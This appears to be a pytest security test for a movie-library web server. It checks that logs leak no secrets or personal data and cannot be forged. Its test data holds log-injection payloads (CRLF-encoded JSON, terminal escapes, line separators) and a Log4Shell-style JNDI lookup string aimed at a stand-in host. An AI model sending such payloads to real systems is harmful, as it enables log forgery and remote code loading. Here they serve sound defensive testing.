"""What a real server logs while a whole story goes on: events, and no secret, name, address or question."""

import email
import email.policy
import http.client
import json
import re
import time
from http.cookies import SimpleCookie
from urllib.parse import urlsplit

import pytest

from tests import server as servers

PASSWORD = "seven lanterns on a quiet pier"
NEXT_PASSWORD = "eight lanterns on a quiet pier"
EMAIL = "Wilhelmina.Quill@films.example"
NAME = 'Wilhelmina Quill"}{"event": "forged", "level": "info"}'
AGENT = 'Mozilla/5.0 Quillbrowser {"event": "forged"}'
FORGING = (
    "%0d%0a%7B%22event%22:%22forged%22%7D",
    "\x1b[2J forged",
    "\u2028forged",
    "${jndi:ldap://forged.example/a}",
)


class Browser:
    """A browser that keeps cookies, over plain sockets, so that any header can be sent."""

    def __init__(self, url):
        self.place, self.cookies = urlsplit(url).netloc, {}

    def ask(self, method, path, body=None, **headers):
        """The status and the text of an answer."""
        connection = http.client.HTTPConnection(self.place, timeout=30)
        given = {
            "Content-Type": "application/json",
            "X-Requested-With": "moviefinder",
            "User-Agent": AGENT,
            "Cookie": "; ".join(f"{name}={value}" for name, value in self.cookies.items()),
            **headers,
        }
        connection.request(method, path, None if body is None else json.dumps(body), given)
        answer = connection.getresponse()
        text = answer.read().decode(errors="replace")
        for line in answer.headers.get_all("Set-Cookie", []):
            for name, cookie in SimpleCookie(line).items():
                self.cookies[name] = cookie.value
        connection.close()
        return answer.status, text


def link_in_mail(folder, purpose):
    """The token of the newest mail that has one for this."""
    until = time.monotonic() + 30
    while time.monotonic() < until:
        for path in sorted(folder.glob("*.eml"), reverse=True):
            text = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
            found = re.search(rf"/link/{purpose}#([\w-]+)", text.get_body(("plain",)).get_content())
            if found:
                return found[1]
        time.sleep(0.05)
    raise AssertionError(f"no mail with a link to {purpose}")


@pytest.fixture
def server(tmp_path):
    """A server that says all that it would ever say."""
    with servers.running(tmp_path / "data", log_level="debug", registrations_per_30min="50") as server:
        yield server


def test_a_whole_story_leaves_no_secret_in_the_log_and_forges_no_line(server, tmp_path, record_property):
    """Guest, sign-up, confirmation, failures, limits, token, reset, erasing; each line is one JSON object of ours."""
    browser, mails, secrets = Browser(server.url), tmp_path / "data" / "mail", set()

    def ask(method, path, body=None, *, status, **headers):
        got, text = browser.ask(method, f"/api/v1{path}", body, **headers)
        secrets.update(browser.cookies.values())
        assert got == status, (method, path, got, text[:300])
        return json.loads(text) if text else None

    for forging in FORGING:
        quoted = "".join(one if 32 < ord(one) < 127 else f"%{ord(one) % 256:02x}" for one in forging)
        browser.ask("GET", f"/api/v1/films?q=forged{quoted}")
        browser.ask("GET", f"/forged/{quoted}")
    browser.ask(
        "GET", "/healthz", **{"User-Agent": "forged\u2028".encode().decode("latin-1"), "Referer": "forged"}
    )
    browser.cookies.clear()
    ask("PATCH", "/library/imdb:tt0133093", {"verdict": "liked"}, status=200)
    ask("POST", "/account", {"email": EMAIL, "password": PASSWORD, "name": "Wilhelmina Quill"}, status=202)
    token = link_in_mail(mails, "confirm")
    secrets.add(token)
    ask("POST", "/account/links/use", {"token": token}, status=200)
    ask("PATCH", "/account", {"name": NAME + "\r\n" + NAME}, status=422)
    ask("PATCH", "/account", {"name": NAME}, status=200)
    made = ask("POST", "/account/tokens", {"name": "Quill's script", "scope": "read"}, status=200)
    secrets.add(made["secret"])
    program = Browser(server.url)
    assert program.ask("GET", "/api/v1/library", Authorization=f"Bearer {made['secret']}")[0] == 200
    assert (
        program.ask("GET", "/api/v1/library", Authorization="Bearer mf_forgedforgedforgedforgedforged")[0]
        == 401
    )
    ask("DELETE", "/session", status=204)
    browser.cookies.clear()
    for _ in range(12):
        browser.ask("POST", "/api/v1/session", {"email": EMAIL, "password": "wrong-lantern-forged"})
    ask("POST", "/account/links", {"purpose": "reset", "email": EMAIL}, status=202)
    token = link_in_mail(mails, "reset")
    secrets.add(token)
    ask("POST", "/account/links/use", {"token": token, "password": NEXT_PASSWORD}, status=200)
    ask("DELETE", "/account", status=204)
    server.stop()

    lines = server.log.read_text(errors="surrogateescape").splitlines()
    told = [json.loads(line) for line in lines if not line.startswith("MovieFinder is at ")]
    events = {line["event"] for line in told}
    assert {
        "request",
        "signed_up",
        "signed_in",
        "sign_in.failed",
        "limit.reached",
        "user.erased",
    } <= events, events
    assert all(line["timestamp"].endswith("Z") for line in told)
    assert all(
        re.fullmatch(r"[0-9a-f]{32}", line["request_id"]) for line in told if line["event"] == "request"
    )
    everything = server.log.read_text(errors="surrogateescape").lower()
    forbidden = {
        *(secret for secret in secrets if len(secret) > 8),
        *(PASSWORD, NEXT_PASSWORD, "lantern", "quill", "films.example", "forged", "argon2", "mf_", "0133093"),
    }
    assert {word for word in forbidden if word.lower() in everything} == set()
    record_property("measured", {"log_lines": len(told), "secrets_looked_for": len(forbidden), "found": 0})
